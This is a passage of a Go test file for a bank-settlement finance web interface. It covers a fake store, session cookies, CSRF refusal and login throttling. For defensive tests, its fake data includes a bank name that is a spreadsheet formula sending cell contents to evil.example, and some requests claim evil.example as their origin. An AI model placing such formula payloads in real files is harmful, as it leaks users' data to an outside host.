package http

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/csv"
	"errors"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/joinincard/engine/clearing"
	"github.com/joinincard/engine/ledger"
	"github.com/joinincard/engine/postgres"
	"github.com/joinincard/engine/reconcile"
	"github.com/joinincard/engine/settlement"
	"github.com/joinincard/engine/settlement/bankfile"
)

func init() {
	featureEnvs = append(featureEnvs, func(t testing.TB, e *env, cfg *Config) {
		f := newFakeFinance(e.clock.Now)
		e.features["finance"] = f
		cfg.Features = append(cfg.Features, NewFinance(f))
	})
}

// The fake's banks: names in Chinese and English as stored, and one whose name an attacker
// chose to be a spreadsheet formula.
const (
	icbcName = "中国工商银行嘉兴分行 ICBC Jiaxing"
	abcName  = "中国农业银行 ABC Jiaxing"
	evilName = `=HYPERLINK("https://evil.example/?leak="&A1,"click")`
)

var (
	financeDay   = settlement.Date{Year: 2026, Month: time.February, Day: 28}
	financeEarly = settlement.Date{Year: 2026, Month: time.February, Day: 27}
	// The fake's breaks: open, open and resolved.
	breakMismatch = ledger.ID{0x01, 0x95, 0xa3, 0xc2, 0x5e, 0x00, 0x7a, 0x41, 0x8b, 0x3e, 0x2f, 0x7d, 0x9c, 0x1e, 0x4a, 0x01}
	breakMissing  = ledger.ID{0x01, 0x95, 0xa3, 0xc2, 0x5e, 0x00, 0x7a, 0x41, 0x8b, 0x3e, 0x2f, 0x7d, 0x9c, 0x1e, 0x4a, 0x02}
	breakGap      = ledger.ID{0x01, 0x95, 0xa3, 0xc2, 0x5e, 0x00, 0x7a, 0x41, 0x8b, 0x3e, 0x2f, 0x7d, 0x9c, 0x1e, 0x4a, 0x03}
	breakDone     = ledger.ID{0x01, 0x95, 0xa3, 0xc2, 0x5e, 0x00, 0x7a, 0x41, 0x8b, 0x3e, 0x2f, 0x7d, 0x9c, 0x1e, 0x4a, 0x04}
	suggestionOne = ledger.ID{0x01, 0x95, 0xa3, 0xc2, 0x5e, 0x00, 0x7a, 0x41, 0x8b, 0x3e, 0x2f, 0x7d, 0x9c, 0x1e, 0x4b, 0x01}
	financeItem   = ledger.ID{0x01, 0x95, 0xa3, 0xc2, 0x5e, 0x00, 0x7a, 0x41, 0x8b, 0x3e, 0x2f, 0x7d, 0x9c, 0x1e, 0x4c, 0x01}
)

// fakeFinance is the finance store in memory: two closed cycles of three banks, breaks of
// every age and a suggestion. It resolves and confirms by the store's rules; errs makes a method
// fail.
type fakeFinance struct {
	mu          sync.Mutex
	now         func() time.Time
	banks       []postgres.Party
	cycles      []postgres.Cycle // newest first
	positions   map[settlement.Date]*settlement.Positions
	files       map[settlement.Date][]postgres.FileRecord
	acks        map[settlement.Date]map[string]postgres.FileAck
	reports     map[settlement.Date]postgres.CycleReport
	week        map[settlement.Date]map[string]int64
	breaks      []postgres.Break
	suggestions []postgres.Suggestion
	decided     map[ledger.ID]string // who decided each suggestion, "accepted by" or "refused by"
	trial       []postgres.KindTotal
	trialAsked  []time.Time
	errs        map[string]error
	sessions    map[[sha256.Size]byte]postgres.FinanceSession
}

func i64(v int64) *int64 { return &v }

func newFakeFinance(now func() time.Time) *fakeFinance {
	f := &fakeFinance{now: now, positions: map[settlement.Date]*settlement.Positions{}, files: map[settlement.Date][]postgres.FileRecord{},
		acks: map[settlement.Date]map[string]postgres.FileAck{}, reports: map[settlement.Date]postgres.CycleReport{},
		week: map[settlement.Date]map[string]int64{}, decided: map[ledger.ID]string{}, errs: map[string]error{},
		sessions: map[[sha256.Size]byte]postgres.FinanceSession{}}
	for _, b := range []struct{ id, name string }{{"ABC-JX", abcName}, {"BOC-JX", evilName}, {"ICBC-JX", icbcName}} {
		f.banks = append(f.banks, postgres.Party{Kind: clearing.PartyBank, ID: b.id, Name: b.name,
			Account: clearing.PartyAccount(clearing.PartyBank, b.id)})
	}
	closed := time.Date(2026, time.February, 28, 23, 5, 0, 0, time.UTC)
	for i, d := range []settlement.Date{financeDay, financeEarly} {
		closedAt := closed.Add(time.Duration(-24*i) * time.Hour)
		f.cycles = append(f.cycles, postgres.Cycle{Date: d, StartsAfter: settlement.DateTime(settlement.AddDays(d, -1)).Add(15 * time.Hour),
			EndsAt: settlement.DateTime(d).Add(15 * time.Hour), ValueDate: settlement.AddDays(d, 2), Status: postgres.CycleClosed,
			FeeIncome: 1_234_00, ClosingAt: closedAt, ClosedAt: &closedAt})
	}
	pos := &settlement.Positions{}
	for _, it := range []settlement.Item{
		{Bank: "ICBC-JX", Kind: settlement.KindCardholderSpend, Amount: -1_234_567_89, Breakdown: settlement.Breakdown{Purchases: -1_234_567_89}},
		{Bank: "ABC-JX", Kind: settlement.KindMerchantEarnings, Amount: 1_233_333_89, Breakdown: settlement.Breakdown{Purchases: 1_234_567_89, Fees: -1_234_00}},
		{Bank: "", Kind: settlement.KindMerchantEarnings, Amount: 5_50, Breakdown: settlement.Breakdown{Purchases: 5_50}},
	} {
		if err := pos.Add(it); err != nil {
			panic(err)
		}
	}
	f.positions[financeDay] = pos
	f.positions[financeEarly] = &settlement.Positions{}
	header := func(bank, name string, seq, entries, sum, net int64) postgres.FileRecord {
		return postgres.FileRecord{Header: bankfile.Header{MessageID: fmt.Sprintf("JIC-%s-20260228-%06d", bank, seq), BankID: bank, BankName: name,
			CreatedAt: closed, CycleDate: financeDay, ValueDate: settlement.AddDays(financeDay, 2), Sequence: seq, Currency: "CNY",
			NumberOfEntries: entries, ControlSum: sum, Net: net},
			XML: bankfile.ManifestEntry{Name: bank + ".xml"}, CSV: bankfile.ManifestEntry{Name: bank + ".csv"}}
	}
	f.files[financeDay] = []postgres.FileRecord{header("ABC-JX", abcName, 2, 1, 1_233_333_89, 1_233_333_89),
		header("BOC-JX", evilName, 2, 0, 0, 0), header("ICBC-JX", icbcName, 2, 1, 1_234_567_89, -1_234_567_89)}
	f.acks[financeDay] = map[string]postgres.FileAck{"ABC-JX": {Status: "accepted", ReceivedAt: closed.Add(9 * time.Hour)}}
	f.reports[financeDay] = postgres.CycleReport{Cycle: f.cycles[0], FeeIncome: 1_234_00, Banks: []postgres.BankCycleReport{
		{Bank: "ABC-JX", Opening: 0, Closing: 1_233_333_89, Settled: 1_233_333_89, Items: 1, ControlSum: 1_233_333_89, MatchedItems: 1,
			Matched: 1_233_333_89, Breaks: map[reconcile.BreakKind]map[reconcile.AgeBucket]int64{}},
		{Bank: "BOC-JX", Breaks: map[reconcile.BreakKind]map[reconcile.AgeBucket]int64{
			reconcile.MissingInLedger: {reconcile.Age0to1: 1}}, Open: 1},
		{Bank: "ICBC-JX", Opening: -5_00, Closing: -1_234_572_89, Settled: -1_234_566_89, Items: 2, ControlSum: 1_234_568_89,
			RejectedItems: 1, Rejected: -1_00,
			Breaks: map[reconcile.BreakKind]map[reconcile.AgeBucket]int64{
				reconcile.AmountMismatch: {reconcile.Age0to1: 1},
				reconcile.MissingAtBank:  {reconcile.Age8to30: 1}}, Open: 2},
	}}
	f.reports[financeEarly] = postgres.CycleReport{Cycle: f.cycles[1]}
	for i := 0; i < 7; i++ {
		d := settlement.AddDays(financeDay, -i)
		f.week[d] = map[string]int64{"ABC-JX": int64(1_000_00 * (i + 1)), "ICBC-JX": -int64(900_00 * (i + 1)), "BOC-JX": 0}
	}
	asOf := financeDay
	f.breaks = []postgres.Break{
		{ID: breakMismatch, Bank: "ICBC-JX", Kind: reconcile.AmountMismatch, Cycle: &asOf, Item: financeItem, File: "JIC-ICBC-JX-20260228-000002",
			Expected: i64(-1_234_567_89), Actual: i64(-1_234_500_00), ExpectedDate: &asOf, ActualDate: &asOf, AsOf: asOf,
			Detail: "-1,234,500.00 booked, -1,234,567.89 expected", DetectedAt: closed, Age: 1, Bucket: reconcile.Age0to1,
			Entries: []postgres.BreakEntry{{Statement: "STMT-7", Line: 3, EntryRef: "E-3", Ref: "9f0e", Amount: -1_234_500_00,
				BookingDate: asOf, ValueDate: asOf, Info: "工商银行 清算 settlement"}}},
		{ID: breakMissing, Bank: "ICBC-JX", Kind: reconcile.MissingAtBank, Cycle: &financeEarly, Expected: i64(-3_00), ExpectedDate: &financeEarly,
			AsOf: settlement.AddDays(financeDay, -10), Detail: "-3.00 settled; the statements run past it", DetectedAt: closed, Age: 10,
			Bucket: reconcile.Age8to30},
		{ID: breakGap, Bank: "BOC-JX", Kind: reconcile.StatementGap, AsOf: settlement.AddDays(financeDay, -40),
			Detail: "statement 3 of the bank's sequence is missing", DetectedAt: closed, Age: 40, Bucket: reconcile.AgeOver30},
		{ID: breakDone, Bank: "ABC-JX", Kind: reconcile.Timing, AsOf: settlement.AddDays(financeDay, -3), Expected: i64(10_00), Actual: i64(10_00),
			Detail: "value date late", DetectedAt: closed, Age: 3, Bucket: reconcile.Age2to7,
			Resolution: &postgres.Resolution{Kind: "note", Note: "银行确认 confirmed by phone", By: "李娜", At: closed}},
	}
	f.suggestions = []postgres.Suggestion{{ID: suggestionOne, Bank: "ABC-JX", Item: financeItem, Amount: 42_00,
		Detail: "no reference; the amount and value date fit"}}
	f.trial = []postgres.KindTotal{
		{Kind: ledger.KindCardholderFunds, Currency: "CNY", Accounts: 1200, Balance: ledger.Balance{DebitsPosted: 1_000_000_00, CreditsPosted: 3_000_000_00}},
		{Kind: ledger.KindMerchantClearing, Currency: "CNY", Accounts: 3, Balance: ledger.Balance{DebitsPosted: 2_000_000_00, DebitsPending: 5_00, CreditsPending: 5_00}},
	}
	return f
}

func (f *fakeFinance) fail(method string, err error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.errs[method] = err
}

func (f *fakeFinance) err(method string) error { return f.errs[method] }

func (f *fakeFinance) ListCycles(_ context.Context, limit int) ([]postgres.Cycle, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if err := f.err("ListCycles"); err != nil {
		return nil, err
	}
	return slices.Clone(f.cycles[:min(limit, len(f.cycles))]), nil
}

func (f *fakeFinance) Cycle(_ context.Context, d settlement.Date) (postgres.Cycle, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, c := range f.cycles {
		if c.Date == d {
			return c, nil
		}
	}
	return postgres.Cycle{}, fmt.Errorf("cycle %s: %w", d, postgres.ErrNotFound)
}

func (f *fakeFinance) Positions(_ context.Context, d settlement.Date) (*settlement.Positions, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.positions[d], nil
}

func (f *fakeFinance) Files(_ context.Context, d settlement.Date) ([]postgres.FileRecord, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.files[d], nil
}

func (f *fakeFinance) FileAcks(_ context.Context, d settlement.Date) (map[string]postgres.FileAck, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.acks[d], nil
}

func (f *fakeFinance) CycleReport(_ context.Context, d settlement.Date) (postgres.CycleReport, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if err := f.err("CycleReport"); err != nil {
		return postgres.CycleReport{}, err
	}
	r, ok := f.reports[d]
	if !ok {
		return r, fmt.Errorf("cycle %s: %w", d, postgres.ErrNotFound)
	}
	return r, nil
}

func (f *fakeFinance) SettledWeek(_ context.Context, d settlement.Date) (map[settlement.Date]map[string]int64, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	out := map[settlement.Date]map[string]int64{}
	for i := 0; i < 7; i++ {
		day := settlement.AddDays(d, -i)
		if w, ok := f.week[day]; ok {
			out[day] = w
		}
	}
	return out, nil
}

func (f *fakeFinance) Breaks(_ context.Context, flt postgres.BreakFilter) ([]postgres.Break, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if err := f.err("Breaks"); err != nil {
		return nil, err
	}
	var out []postgres.Break
	for _, b := range f.breaks {
		if (flt.Bank == "" || b.Bank == flt.Bank) && (!flt.Open || b.Resolution == nil) {
			out = append(out, b)
		}
	}
	return out, nil
}

func (f *fakeFinance) Break(_ context.Context, id ledger.ID) (postgres.Break, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, b := range f.breaks {
		if b.ID == id {
			return b, nil
		}
	}
	return postgres.Break{}, fmt.Errorf("break %s: %w", id, postgres.ErrNotFound)
}

func (f *fakeFinance) resolve(id ledger.ID, kind, by, note string) (postgres.Break, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if err := f.err("Resolve"); err != nil {
		return postgres.Break{}, err
	}
	for i, b := range f.breaks {
		if b.ID != id {
			continue
		}
		if b.Resolution != nil {
			return b, postgres.ErrBreakResolved
		}
		if kind == "adjustment" && (b.Expected == nil && b.Actual == nil) {
			return b, postgres.ErrNotAdjustable
		}
		f.breaks[i].Resolution = &postgres.Resolution{Kind: kind, Note: note, By: by, At: f.now()}
		return f.breaks[i], nil
	}
	return postgres.Break{}, fmt.Errorf("break %s: %w", id, postgres.ErrNotFound)
}

func (f *fakeFinance) ResolveWithNote(_ context.Context, id ledger.ID, by, note string) (postgres.Break, error) {
	return f.resolve(id, "note", by, note)
}

func (f *fakeFinance) ResolveWithAdjustment(_ context.Context, id ledger.ID, by, note string) (postgres.Break, error) {
	return f.resolve(id, "adjustment", by, note)
}

func (f *fakeFinance) Suggestions(_ context.Context, bank string) ([]postgres.Suggestion, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var out []postgres.Suggestion
	for _, s := range f.suggestions {
		if _, done := f.decided[s.ID]; !done && (bank == "" || s.Bank == bank) {
			out = append(out, s)
		}
	}
	return out, nil
}

func (f *fakeFinance) Confirm(_ context.Context, id ledger.ID, accepted bool, by string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, s := range f.suggestions {
		if s.ID != id {
			continue
		}
		if _, done := f.decided[id]; done {
			return fmt.Errorf("match %s: %w", id, postgres.ErrNotPending)
		}
		f.decided[id] = map[bool]string{true: "accepted by ", false: "refused by "}[accepted] + by
		return nil
	}
	return fmt.Errorf("match %s: %w", id, postgres.ErrNotFound)
}

func (f *fakeFinance) TrialBalanceAt(_ context.Context, at time.Time) ([]postgres.KindTotal, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.trialAsked = append(f.trialAsked, at)
	return slices.Clone(f.trial), nil
}

func (f *fakeFinance) Banks(context.Context) ([]postgres.Party, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if err := f.err("Banks"); err != nil {
		return nil, err
	}
	return slices.Clone(f.banks), nil
}

// StartFinanceSession keeps sessions as the store does: the ended ones go, then the closest to
// their end while maxSessions are open.
func (f *fakeFinance) StartFinanceSession(_ context.Context, sess postgres.FinanceSession, maxSessions int) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if err := f.err("StartFinanceSession"); err != nil {
		return err
	}
	for k, old := range f.sessions {
		if !sess.Started.Before(old.Expires) {
			delete(f.sessions, k)
		}
	}
	for len(f.sessions) >= maxSessions {
		var soonest *postgres.FinanceSession
		for _, old := range f.sessions {
			if soonest == nil || old.Expires.Before(soonest.Expires) {
				soonest = &old
			}
		}
		delete(f.sessions, soonest.IDHash)
	}
	f.sessions[sess.IDHash] = sess
	return nil
}

func (f *fakeFinance) FinanceSessionAt(_ context.Context, idHash [sha256.Size]byte, now time.Time) (postgres.FinanceSession, bool, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if err := f.err("FinanceSessionAt"); err != nil {
		return postgres.FinanceSession{}, false, err
	}
	sess, ok := f.sessions[idHash]
	if !ok || !now.Before(sess.Expires) {
		return postgres.FinanceSession{}, false, nil
	}
	return sess, true, nil
}

func (f *fakeFinance) EndFinanceSession(_ context.Context, idHash [sha256.Size]byte) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if err := f.err("EndFinanceSession"); err != nil {
		return err
	}
	delete(f.sessions, idHash)
	return nil
}

var _ FinanceStore = (*fakeFinance)(nil)

func (e *env) finance() *fakeFinance { return e.features["finance"].(*fakeFinance) }

// --- a browser's requests ---------------------------------------------------------------------------

// browser is a person's browser on a test server: its session cookie and the form token of the
// last page it read.
type browser struct {
	e      *env
	cookie *http.Cookie
	csrf   string
	tls    bool
	remote string // the client's address, host:port; httptest's own when empty
}

var csrfField = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// send sends a request as the browser: no Authorization header, its cookie, and for a form its
// fields with the form token (unless fields holds "csrf").
func (b *browser) send(t testing.TB, method, path string, fields url.Values, header map[string]string) *httptest.ResponseRecorder {
	t.Helper()
	var body string
	if fields != nil {
		f := url.Values{}
		for k, v := range fields {
			f[k] = v
		}
		if _, ok := f["csrf"]; !ok && b.csrf != "" {
			f.Set("csrf", b.csrf)
		}
		body = f.Encode()
	}
	r := httptest.NewRequest(method, path, strings.NewReader(body))
	if fields != nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("Origin", "http://example.com")
		r.Header.Set("Sec-Fetch-Site", "same-origin")
	}
	if b.tls {
		r.TLS = &tls.ConnectionState{}
	}
	if b.remote != "" {
		r.RemoteAddr = b.remote
	}
	if b.cookie != nil {
		r.AddCookie(b.cookie)
	}
	for k, v := range header {
		if v == "" {
			r.Header.Del(k)
		} else {
			r.Header.Set(k, v)
		}
	}
	w := httptest.NewRecorder()
	b.e.h.ServeHTTP(w, r)
	if m := csrfField.FindStringSubmatch(w.Body.String()); m != nil {
		b.csrf = m[1]
	}
	return w
}

func (b *browser) get(t testing.TB, path string) *httptest.ResponseRecorder {
	t.Helper()
	return b.send(t, http.MethodGet, path, nil, nil)
}

func (b *browser) post(t testing.TB, path string, fields url.Values) *httptest.ResponseRecorder {
	t.Helper()
	return b.send(t, http.MethodPost, path, fields, nil)
}

// sessionCookie returns the session cookie w sets, or nil.
func sessionCookie(w *httptest.ResponseRecorder) *http.Cookie {
	for _, c := range w.Result().Cookies() {
		if c.Name == financeCookie {
			return c
		}
	}
	return nil
}

// loginAs logs a browser in as who with the admin token, and reads the overview for a form token.
func loginAs(t testing.TB, e *env, who string) *browser {
	t.Helper()
	b := &browser{e: e}
	w := b.post(t, "/finance/login", url.Values{"name": {who}, "token": {testAdminToken}})
	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/finance/" {
		t.Fatalf("login: %d %v %s", w.Code, w.Header(), w.Body.String())
	}
	b.cookie = sessionCookie(w)
	if b.cookie == nil {
		t.Fatal("login set no session cookie")
	}
	if w := b.get(t, "/finance/"); w.Code != http.StatusOK || b.csrf == "" {
		t.Fatalf("overview after login: %d %s", w.Code, w.Body.String())
	}
	return b
}

var errorMessage = regexp.MustCompile(`(?s)<p class="error" id="error-message" role="alert">(.*?)</p>`)

// pageError returns the error a page shows, unescaped, or "".
func pageError(w *httptest.ResponseRecorder) string {
	m := errorMessage.FindStringSubmatch(w.Body.String())
	if m == nil {
		return ""
	}
	return html.UnescapeString(m[1])
}

// wantPageError checks that w is an HTML page with status and an error containing msg.
func wantPageError(t testing.TB, w *httptest.ResponseRecorder, status int, msg string) {
	t.Helper()
	if w.Code != status {
		t.Fatalf("status %d, want %d: %s", w.Code, status, w.Body.String())
	}
	if ct := w.Header().Get("Content-Type"); ct != "text/html; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if got := pageError(w); !strings.Contains(got, msg) {
		t.Errorf("error %q, want it to contain %q", got, msg)
	}
}

// --- login, sessions, forms -------------------------------------------------------------------------

// TestFinanceLoginSetsAStrictHttpOnlySessionCookie logs in: the cookie is a fresh 256-bit id,
// HttpOnly, SameSite=Strict, for /finance only, for eight hours, Secure over TLS or when the
// page is told it is served over HTTPS, and never holds the token. The page shows who is
// logged in.
func TestFinanceLoginSetsAStrictHttpOnlySessionCookie(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "王芳 Wang Fang")
	c := b.cookie
	if !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.Path != "/finance" || c.MaxAge != 8*3600 || c.Secure {
		t.Errorf("cookie %+v", c)
	}
	if len(c.Value) != 43 || strings.Contains(c.Value, testAdminToken) {
		t.Errorf("cookie value %q is not a 256-bit id", c.Value)
	}
	if w := b.get(t, "/finance/"); !strings.Contains(w.Body.String(), `<span class="who" id="who">王芳 Wang Fang</span>`) {
		t.Errorf("the page does not show who is logged in:\n%s", w.Body.String())
	}
	again := loginAs(t, e, "王芳 Wang Fang")
	if again.cookie.Value == c.Value || again.csrf == b.csrf {
		t.Error("two logins share a session id or a form token")
	}

	overTLS := &browser{e: e, tls: true}
	w := overTLS.post(t, "/finance/login", url.Values{"name": {"Anna"}, "token": {testAdminToken}})
	if c := sessionCookie(w); c == nil || !c.Secure {
		t.Errorf("over TLS: cookie %+v", c)
	}
	secure := newEnv(t, func(cfg *Config) {
		for _, f := range cfg.Features {
			if fin, ok := f.(*Finance); ok {
				fin.SecureCookie = true
			}
		}
	})
	w = (&browser{e: secure}).post(t, "/finance/login", url.Values{"name": {"Anna"}, "token": {testAdminToken}})
	if c := sessionCookie(w); c == nil || !c.Secure {
		t.Errorf("with SecureCookie: cookie %+v", c)
	}
	if strings.Contains(e.log.String(), testAdminToken) {
		t.Error("the log holds the admin token")
	}
}

// TestFinanceRefusesAPIKeysAndBearerTokens: the login takes only the admin token, so a bank's,
// a merchant's or an operator's API key is a wrong token; and no page opens with an
// Authorization header in place of a session, not even the admin's.
func TestFinanceRefusesAPIKeysAndBearerTokens(t *testing.T) {
	e := newEnv(t)
	for _, key := range []string{icbcKey, "mk_" + strings.Repeat("M", 43), "ok_" + strings.Repeat("O", 43), testAdminToken + "x"} {
		w := (&browser{e: e}).post(t, "/finance/login", url.Values{"name": {"Anna"}, "token": {key}})
		wantPageError(t, w, http.StatusUnauthorized, "wrong token")
		if c := sessionCookie(w); c != nil {
			t.Errorf("a wrong token got a session: %+v", c)
		}
		e.clock.Advance(time.Minute) // past the throttle
	}
	for _, auth := range []string{"Bearer " + testAdminToken, "Bearer " + icbcKey} {
		for _, path := range []string{"/finance/", "/finance/breaks", "/finance/trial-balance.csv", "/finance/cycles/2026-02-28"} {
			w := e.do(t, request{method: "GET", path: path, auth: auth})
			if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/finance/login" {
				t.Errorf("GET %s with %q: %d %s", path, auth[:12], w.Code, w.Body.String())
			}
		}
		w := e.do(t, request{method: "POST", path: "/finance/breaks/" + breakMismatch.String() + "/resolve", auth: auth,
			body: "action=note&note=x", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}})
		if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/finance/login" {
			t.Errorf("POST with %q: %d", auth[:12], w.Code)
		}
	}
	if b, _ := e.finance().Break(context.Background(), breakMismatch); b.Resolution != nil {
		t.Fatal("a bearer token resolved a break")
	}
}

// TestFinanceFormsRefuseCrossSiteRequests: a form posted without the session's token, with
// another session's, or from another site by its browser's word (Sec-Fetch-Site, Origin,
// Referer) is refused 403 and changes nothing.
func TestFinanceFormsRefuseCrossSiteRequests(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	other := loginAs(t, e, "Bob")
	path := "/finance/breaks/" + breakMismatch.String() + "/resolve"
	note := url.Values{"action": {"note"}, "note": {"settled by phone"}}
	withCSRF := func(v string) url.Values {
		f := url.Values{"csrf": {v}}
		for k, vs := range note {
			f[k] = vs
		}
		return f
	}
	for _, c := range []struct {
		name   string
		fields url.Values
		header map[string]string
		msg    string
	}{
		{"no token", withCSRF(""), nil, "out of date"},
		{"another session's token", withCSRF(other.csrf), nil, "out of date"},
		{"a token one byte off", withCSRF(b.csrf[:len(b.csrf)-1] + "x"), nil, "out of date"},
		{"cross-site fetch", note, map[string]string{"Sec-Fetch-Site": "cross-site"}, "another site"},
		{"another origin", note, map[string]string{"Sec-Fetch-Site": "", "Origin": "https://evil.example"}, "another site"},
		{"another site's referer", note, map[string]string{"Sec-Fetch-Site": "", "Origin": "", "Referer": "https://evil.example/page"}, "another site"},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := b.send(t, http.MethodPost, path, c.fields, c.header)
			wantPageError(t, w, http.StatusForbidden, c.msg)
		})
	}
	if got, _ := e.finance().Break(context.Background(), breakMismatch); got.Resolution != nil {
		t.Fatalf("a refused form resolved the break: %+v", got.Resolution)
	}
	// The same form from the page itself, and from a browser that names no origin but its own
	// Referer, goes through.
	w := b.send(t, http.MethodPost, path, note, map[string]string{"Sec-Fetch-Site": "", "Origin": "", "Referer": "http://example.com/finance/breaks"})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("same-site form: %d %s", w.Code, w.Body.String())
	}
}

// TestFinanceLogoutEndsTheSession: after logout the cookie is cleared and the old id opens
// nothing, even if a copy was kept.
func TestFinanceLogoutEndsTheSession(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	kept := *b.cookie
	w := b.post(t, "/finance/logout", url.Values{})
	if w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/finance/login" {
		t.Fatalf("logout: %d %s", w.Code, w.Body.String())
	}
	if c := sessionCookie(w); c == nil || c.MaxAge >= 0 || c.Value != "" {
		t.Errorf("logout left the cookie: %+v", c)
	}
	b.cookie = &kept
	if w := b.get(t, "/finance/"); w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/finance/login" {
		t.Errorf("the old session after logout: %d", w.Code)
	}
	// Logout is a form like the others: without the token it ends nothing.
	c := loginAs(t, e, "Bob")
	if w := c.post(t, "/finance/logout", url.Values{"csrf": {"x"}}); w.Code != http.StatusForbidden {
		t.Errorf("logout without the form token: %d", w.Code)
	}
	if w := c.get(t, "/finance/"); w.Code != http.StatusOK {
		t.Errorf("the session after a refused logout: %d", w.Code)
	}
}

// TestFinanceLoginAgainReplacesTheSession: logging in again from a browser that has a session
// ends that session, so a copy of the old cookie opens nothing; the new one lasts eight hours from
// the new login. Another browser's session, another person's, is left alone.
func TestFinanceLoginAgainReplacesTheSession(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	other := loginAs(t, e, "Bob")
	old := *b.cookie
	e.clock.Advance(time.Hour)
	b.csrf = "" // the login form carries no form token: a login page left open in a tab
	w := b.post(t, "/finance/login", url.Values{"name": {"Anna Li"}, "token": {testAdminToken}})
	if w.Code != http.StatusSeeOther {
		t.Fatalf("login again: %d %s", w.Code, pageError(w))
	}
	fresh := sessionCookie(w)
	if fresh == nil || fresh.Value == old.Value {
		t.Fatalf("login again kept the session id: %+v", fresh)
	}
	b.cookie = &old
	if w := b.get(t, "/finance/"); w.Code != http.StatusSeeOther {
		t.Errorf("the session before the new login still opens the page: %d", w.Code)
	}
	b.cookie = fresh
	if w := b.get(t, "/finance/"); w.Code != http.StatusOK || !strings.Contains(w.Body.String(), "Anna Li") {
		t.Errorf("the new session: %d", w.Code)
	}
	if w := other.get(t, "/finance/"); w.Code != http.StatusOK {
		t.Errorf("another browser's session ended: %d", w.Code)
	}
	e.clock.Advance(financeSessionTTL - time.Second)
	if w := b.get(t, "/finance/"); w.Code != http.StatusOK {
		t.Errorf("the new session ended with the old one's time: %d", w.Code)
	}
}

// TestFinanceSessionEndsAfterEightHours: a session opens pages until eight hours after the
// login, and not a moment after.
func TestFinanceSessionEndsAfterEightHours(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	e.clock.Advance(financeSessionTTL - time.Second)
	if w := b.get(t, "/finance/breaks"); w.Code != http.StatusOK {
		t.Fatalf("a second before the end: %d", w.Code)
	}
	e.clock.Advance(time.Second)
	if w := b.get(t, "/finance/breaks"); w.Code != http.StatusSeeOther || w.Header().Get("Location") != "/finance/login" {
		t.Fatalf("at the end: %d", w.Code)
	}
}

// TestFinanceLoginThrottlesGuessing: three wrong tokens are answered at once; then each attempt
// waits for the one before, a second, then two, without its token being looked at (the right
// token too), and a login that succeeds clears the count.
func TestFinanceLoginThrottlesGuessing(t *testing.T) {
	e := newEnv(t)
	login := func(token string) *httptest.ResponseRecorder {
		return (&browser{e: e}).post(t, "/finance/login", url.Values{"name": {"Anna"}, "token": {token}})
	}
	for i := 0; i < loginFreeFailures; i++ {
		wantPageError(t, login("guess"), http.StatusUnauthorized, "wrong token")
	}
	wantPageError(t, login("guess"), http.StatusUnauthorized, "wrong token") // the fourth: checked, and waits a second
	w := login(testAdminToken)
	wantPageError(t, w, http.StatusTooManyRequests, "try again in 1 s")
	if w.Header().Get("Retry-After") != "1" || sessionCookie(w) != nil {
		t.Errorf("throttled: %v", w.Header())
	}
	e.clock.Advance(time.Second)
	wantPageError(t, login("guess"), http.StatusUnauthorized, "wrong token") // the fifth: two seconds
	e.clock.Advance(time.Second)
	wantPageError(t, login(testAdminToken), http.StatusTooManyRequests, "try again in 1 s")
	e.clock.Advance(time.Second)
	if w := login(testAdminToken); w.Code != http.StatusSeeOther {
		t.Fatalf("after the wait: %d %s", w.Code, w.Body.String())
	}
	wantPageError(t, login("guess"), http.StatusUnauthorized, "wrong token")
	if w := login(testAdminToken); w.Code != http.StatusSeeOther {
		t.Errorf("a success cleared the count, then one failure: %d", w.Code)
	}
}

// TestFinanceLoginThrottlesEachClient: one client guessing wrong tokens is slowed down, and
// every other finance user still logs in at once; clients in one IPv6 /64 are one client.
func TestFinanceLoginThrottlesEachClient(t *testing.T) {
	e := newEnv(t)
	login := func(remote, token string) *httptest.ResponseRecorder {
		return (&browser{e: e, remote: remote}).post(t, "/finance/login", url.Values{"name": {"Anna"}, "token": {token}})
	}
	for i := 0; i < loginFreeFailures+1; i++ {
		wantPageError(t, login("203.0.113.9:40000", "guess"), http.StatusUnauthorized, "wrong token")
	}
	wantPageError(t, login("203.0.113.9:40001", "guess"), http.StatusTooManyRequests, "try again")
	if w := login("198.51.100.7:51000", testAdminToken); w.Code != http.StatusSeeOther {
		t.Fatalf("another client is locked out by a guesser: %d %s", w.Code, pageError(w))
	}
